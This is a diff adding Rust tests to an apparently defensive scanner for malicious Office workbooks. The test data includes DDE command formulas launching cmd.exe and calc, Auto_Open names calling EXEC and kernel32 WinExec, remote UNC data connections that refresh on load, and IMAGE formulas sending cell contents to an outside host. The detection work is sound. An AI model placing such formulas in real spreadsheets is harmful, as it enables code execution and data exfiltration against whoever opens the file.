@@ -344,6 +344,61 @@ fn a_slide_that_runs_a_program_and_a_formula_that_asks_one_are_reported() {
 }
 
 #[test]
+fn data_on_a_share_outside_of_the_house_is_reported_where_it_is_fetched_at_once() {
+    for (connection, refresh, reported) in [
+        (r"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\host.invalid\s\a.xlsx;Extended Properties=x", "1", true),
+        (r"DRIVER={Microsoft Text Driver};DBQ=\\203.0.113.5\s", "true", true),
+        (r"Provider=x;Data Source=\\host.invalid\s\a.xlsx", "0", false),
+        (r"Provider=x;Data Source=\\server\team\a.xlsx", "1", false),
+        (r"Provider=SQLOLEDB;Data Source=sql.house.invalid;Initial Catalog=x", "1", false),
+    ] {
+        let text = format!(
+            r#"<connections><connection id="1" refreshOnLoad="{refresh}"><dbPr connection="{connection}"/></connection></connections>"#
+        );
+        let recorded = check(&[("xl/connections.xml", text.as_bytes())]);
+        assert_eq!(recorded.findings.iter().any(|f| f.id == "ooxml.external-image"), reported, "{connection}");
+    }
+    // A table of the sheet may say that it is refreshed.
+    let data =
+        r#"<connections><connection id="1"><dbPr connection="DBQ=\\host.invalid\s"/></connection></connections>"#;
+    let table = r#"<queryTable connectionId="1" refreshOnLoad="1"/>"#;
+    let recorded =
+        check(&[("xl/connections.xml", data.as_bytes()), ("xl/queryTables/queryTable1.xml", table.as_bytes())]);
+    assert!(recorded.findings.iter().any(|f| f.id == "ooxml.external-image"));
+}
+
+#[test]
+fn workbooks_elsewhere_in_formulas_and_formulas_of_names_are_reported() {
+    let sheet = |formula: &str| format!("<sheetData><c r=\"A1\"><f>{formula}</f></c></sheetData>");
+    for (formula, id) in [
+        (r"'\\host.invalid\s\[a.xlsx]S'!A1", Some("ooxml.external-image")),
+        (r"'C:\Windows\System32\cmd.exe'|'/c calc'!A0", Some("ooxml.dde")),
+        ("cmd|calc!A0", Some("ooxml.dde")),
+        ("_xlfn.IMAGE(\"https://host.invalid/?\"&amp;A2)", Some("ooxml.web-formula")),
+        ("_xlfn.IMAGE(\"https://host.invalid/a.png\")", None),
+        ("HYPERLINK(\"https://host.invalid/?id=\"&amp;A2)", None),
+        (r"'C:\data\[a.xlsx]S'!A1", None),
+        ("'ms-data sheet'!A1", None),
+    ] {
+        let recorded = check(&[("xl/worksheets/sheet1.xml", sheet(formula).as_bytes())]);
+        let found = recorded.findings.iter().map(|f| &*f.id).find(|id| id.starts_with("ooxml."));
+        assert_eq!(found, id, "{formula}");
+    }
+    for (name, formula, reported) in [
+        ("_xlnm.Auto_Open", "EXEC(\"calc\")", true),
+        ("_xlnm.Auto_Open", "EXEC(A1)", true),
+        ("x", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", true),
+        ("x", "Sheet1!$A$1", false),
+        ("x", "EXEC(A1)", false),
+    ] {
+        let book = format!(r#"<definedNames><definedName name="{name}">{formula}</definedName></definedNames>"#);
+        let recorded = check(&[("xl/workbook.xml", book.as_bytes())]);
+        let found = recorded.findings.iter().any(|f| f.id == "ooxml.library-formula");
+        assert_eq!(found, reported, "{name} {formula}");
+    }
+}
+
+#[test]
 fn a_formula_that_calls_a_library_is_reported_and_one_that_fetches_is_told() {
     for (formula, reported) in [
         ("CALL(\"kernel32\",\"WinExec\",\"JFJ\",\"calc\",1)", Some("ooxml.library-formula")),
